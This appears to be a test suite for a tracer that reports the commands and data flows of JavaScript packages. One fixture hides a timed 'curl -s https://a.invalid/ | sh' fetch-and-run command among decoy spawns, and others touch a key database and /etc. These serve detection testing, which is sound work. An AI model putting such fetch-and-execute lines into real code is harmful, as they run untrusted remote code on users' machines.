import assert from 'node:assert/strict';
import { it } from 'node:test';

import { tracedInline } from '../../test/traced.ts';

const SH = `const { spawnSync } = require('child_process'); const sh = (program, words) => spawnSync(program, words);`;

function commands(code: string): string[] {
  const { effects } = tracedInline({ 'index.js': code });
  return effects.flatMap(({ kind, target, details }) => (kind === 'spawns' ? [`${target}: ${details.get('arguments') ?? ''}`] : []));
}

it('several commands that one function starts are told one by one', () => {
  assert.deepEqual(commands(`${SH} sh('security', ['-k', '/a/key.db', 'c.pem']); sh('install', ['-m', '644', 'c.pem', '/etc/c.pem']);`), [
    'security: -k /a/key.db c.pem',
    'install: -m 644 c.pem /etc/c.pem',
  ]);
});

it('what is known of them together alone stays told', () => {
  const [whole, ...others] = commands(
    `${SH} sh('a', ['x']); sh('b', ['y']); exports.go = { never: () => sh('c', ['z']) }; delete exports.go;`,
  );
  assert.equal(whole, 'a | b | c: x | y | z');
  assert.deepEqual(others, ['a: x', 'b: y']);
});

it('a command stays told whose words others have, each for something else', () => {
  const told = commands(
    `${SH} sh('echo', ['curl', '-s']); sh('printf', ['https://a.invalid/']); sh('sh', ['-c', 'true']); AbortSignal.timeout(9).addEventListener('abort', () => sh('sh', ['-c', 'curl -s https://a.invalid/ | sh']));`,
  );
  assert.ok(
    told.some(one => one.includes('curl -s https://a.invalid/')),
    told.join('; '),
  );
});

it('what somebody calls is told by what a command of the package does with it', () => {
  const { effects } = tracedInline({
    'package.json': { name: 'specimen', version: '1.0.0', main: 'store.js', bin: 'cli.js' },
    'store.js': `${SH} exports.store = { get: () => sh('a', ['x']), set: () => sh('b', ['y']) };`,
    'cli.js': `const { store } = require('./store'); store.set(); store.get();`,
  });
  const told = new Set(effects.flatMap(({ kind, target }) => (kind === 'spawns' ? [target] : [])));
  assert.deepEqual([...told].toSorted(), ['a', 'b']);
});

it('a command of which only another one is known to be started so stays told', () => {
  const code = `const { spawn } = require('child_process'); const sh = (program, words, how) => spawn(program, words, how); sh('a', ['x'], { detached: true }); sh('b', ['y']); exports.go = how => sh('b', ['y'], how.all ? { detached: true } : how);`;
  const { effects } = tracedInline({ 'index.js': code });
  assert.ok(
    effects.some(({ target, details }) => target.includes('b') && details.has('detached')),
    JSON.stringify(effects.map(one => [...one.details])),
  );
});

it('data that goes to one of them is followed to it', () => {
  const { flows } = tracedInline({ 'index.js': `${SH} sh('a', [require('fs').readFileSync('/x', 'utf8')]); sh('b', ['y']);` });
  assert.deepEqual(
    flows.map(({ from, to }) => `${from.target} > ${to.target}`),
    ['/x > a'],
  );
});
